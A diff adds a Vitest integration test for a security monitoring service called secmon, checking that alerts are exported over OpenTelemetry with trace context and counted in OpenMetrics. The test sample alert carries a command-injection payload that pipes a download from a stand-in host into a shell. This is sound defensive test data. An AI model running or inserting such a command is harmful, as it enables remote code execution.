@@ -1,0 +1,86 @@
+import { existsSync } from 'node:fs';
+import { resolve } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { type OtlpReceiver, startOtlpReceiver } from '../support/otlp-receiver.js';
+import { freePort, type RunningProcess, startProcess, waitFor } from '../support/processes.js';
+
+const cli = resolve(import.meta.dirname, '../../dist/service/cli.js');
+const TOKEN = 'otel-integration-token-0123456789';
+const TRACE_ID = '4bf92f3577b34da6a3ce929d0e0e4736';
+const PARENT_SPAN_ID = '00f067aa0ba902b7';
+
+describe('secmon serve with OTLP export', () => {
+  let receiver: OtlpReceiver;
+  let service: RunningProcess;
+  let base: string;
+
+  beforeAll(async () => {
+    if (!existsSync(cli)) throw new Error('dist/ is missing: run `npm test`, which builds first');
+    receiver = await startOtlpReceiver();
+    const port = await freePort();
+    base = `http://127.0.0.1:${port}`;
+    service = startProcess(process.execPath, [cli, 'serve'], {
+      env: {
+        ...process.env,
+        SECMON_PORT: String(port),
+        SECMON_INGEST_TOKENS: TOKEN,
+        OTEL_EXPORTER_OTLP_ENDPOINT: receiver.url,
+        OTEL_METRIC_EXPORT_INTERVAL: '500',
+        OTEL_SERVICE_NAME: 'secmon-it',
+      },
+      name: 'secmon serve (otlp)',
+    });
+    await waitFor('secmon to be ready', async () => (await fetch(`${base}/readyz`)).ok);
+  });
+
+  afterAll(async () => {
+    await service?.stop();
+    await receiver?.close();
+  });
+
+  it("exports each alert as a secmon.alert event carrying the caller's trace from traceparent", async () => {
+    const response = await fetch(`${base}/v1/events`, {
+      method: 'POST',
+      headers: {
+        authorization: `Bearer ${TOKEN}`,
+        'content-type': 'application/json',
+        traceparent: `00-${TRACE_ID}-${PARENT_SPAN_ID}-01`,
+      },
+      body: JSON.stringify({ type: 'command_injection', ip: '198.51.100.7', input: 'x; curl evil | sh' }),
+    });
+    expect(response.status).toBe(202);
+    const record = await waitFor('the alert event at the receiver', () =>
+      receiver.logs().find((log) => log.eventName === 'secmon.alert'),
+    );
+    expect(record.severityText).toBe('FATAL');
+    expect(record.body).toBe('Command injection attempt detected');
+    expect(record.attributes['client.address']).toBe('198.51.100.7');
+    expect(record.attributes['secmon.alert.type']).toBe('command_injection');
+    expect(record.attributes['secmon.alert.input']).toBe('x; curl evil | sh');
+    expect(record.traceId).toBe(TRACE_ID);
+    expect(record.spanId).toBe(PARENT_SPAN_ID);
+    const resource = receiver.requests.find((request) => request.path === '/v1/logs')!.resource;
+    expect(resource['service.name']).toBe('secmon-it');
+  });
+
+  it('exports the counters as OTel metrics and the OpenMetrics exemplar links the same trace', async () => {
+    const metric = await waitFor('the alerts metric at the receiver', () =>
+      receiver
+        .latestMetrics()
+        ?.find(
+          (m) =>
+            m.name === 'secmon.alerts' &&
+            m.points.some((p) => p.attributes.type === 'command_injection' && p.value === 1),
+        ),
+    );
+    expect(metric.monotonic).toBe(true);
+    const openMetrics = await (
+      await fetch(`${base}/metrics`, { headers: { accept: 'application/openmetrics-text; version=1.0.0' } })
+    ).text();
+    expect(openMetrics).toMatch(
+      new RegExp(
+        `secmon_alerts_total\\{type="command_injection",severity="critical"\\} 1 # \\{trace_id="${TRACE_ID}"`,
+      ),
+    );
+  });
+});
